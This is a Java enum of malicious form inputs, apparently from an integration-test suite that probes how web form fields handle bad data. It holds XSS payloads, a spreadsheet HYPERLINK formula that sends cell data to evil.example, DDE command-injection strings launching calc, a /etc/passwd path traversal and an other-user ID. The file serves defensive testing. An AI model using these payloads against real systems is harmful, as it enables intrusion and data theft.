package org.govtechhub.it;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.List;

/**
 * The bad values a user (or someone pretending to be one) can type or forge, each as it goes on the wire. Most are
 * text; a few are bytes that are not UTF-8 at all (sent percent-encoded as they are, never re-encoded).
 */
public enum BadInput {
    OVERSIZED("Ab1 ".repeat(5_000)),
    NOT_A_NUMBER("twelve and a half"),
    INVALID_UTF8(null, "%FF%FE%C3%28abc%E2%82"),
    OVERLONG_ENCODING(null, "%C0%BCscript%C0%BEalert(1)%C0%BC/script%C0%BE"),
    NUL("name\u0000with a NUL"),
    CONTROL_CHARACTERS("\u0007bell\u001b[2J\u0008\u007f"),
    SCRIPT("<script>alert(1)</script>"),
    ATTRIBUTE_BREAKOUT("\"><img src=x onerror=alert(1)>"),
    FORMULA("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")"),
    PLUS("+1+cmd|' /C calc'!A0"),
    MINUS("-2+3+cmd|' /C calc'!A0"),
    AT("@SUM(1+1)*cmd|' /C calc'!A0"),
    DATE_ZERO("0000-00-00"),
    DATE_HUGE("99999-01-01"),
    NEGATIVE("-1"),
    ZERO("0"),
    HUGE("99999999999999999999999999"),
    PATH_TRAVERSAL("../../../../etc/passwd"),
    ANOTHER_USERS_ID("1");

    /** What a free-text field gets, in turn. */
    public static final List<BadInput> TEXT = List.of(NOT_A_NUMBER, INVALID_UTF8, OVERLONG_ENCODING, NUL, CONTROL_CHARACTERS, SCRIPT,
            ATTRIBUTE_BREAKOUT, FORMULA, PLUS, MINUS, AT, DATE_ZERO, DATE_HUGE, NEGATIVE, HUGE, PATH_TRAVERSAL);
    /** What a number field gets. */
    public static final List<BadInput> NUMBER = List.of(NOT_A_NUMBER, NEGATIVE, ZERO, HUGE, OVERSIZED, INVALID_UTF8, FORMULA, NUL);
    /** What a date field gets. */
    public static final List<BadInput> DATE = List.of(DATE_ZERO, DATE_HUGE, NOT_A_NUMBER, OVERSIZED, INVALID_UTF8, SCRIPT, NEGATIVE);
    /** What a choice (a select, a radio) gets: values it never offered. */
    public static final List<BadInput> CHOICE = List.of(ANOTHER_USERS_ID, HUGE, NEGATIVE, SCRIPT, PATH_TRAVERSAL, OVERSIZED,
            INVALID_UTF8, NUL);
    /** What a hidden field (an id the page carries, a table's row key) gets: someone else's record first. */
    public static final List<BadInput> HIDDEN = List.of(ANOTHER_USERS_ID, HUGE, NEGATIVE, NOT_A_NUMBER, SCRIPT, OVERSIZED);
    /** What a tick box gets. */
    public static final List<BadInput> TICK = List.of(SCRIPT, NOT_A_NUMBER, OVERSIZED);

    private final String text;
    private final String raw;

    BadInput(String text) {
        this(text, null);
    }

    BadInput(String text, String raw) {
        this.text = text;
        this.raw = raw;
    }

    /** The value percent-encoded for a form or a query string: raw bytes stay the bytes they are. */
    public String encoded() {
        return raw != null ? raw : URLEncoder.encode(text, StandardCharsets.UTF_8);
    }

    /** The value as typed; for the bytes that are not UTF-8, their percent-encoded form. */
    public String text() {
        return text != null ? text : raw;
    }

    /** Whether a page that echoes the value unescaped would run a script. */
    public boolean isMarkup() {
        return this == SCRIPT || this == ATTRIBUTE_BREAKOUT;
    }
}
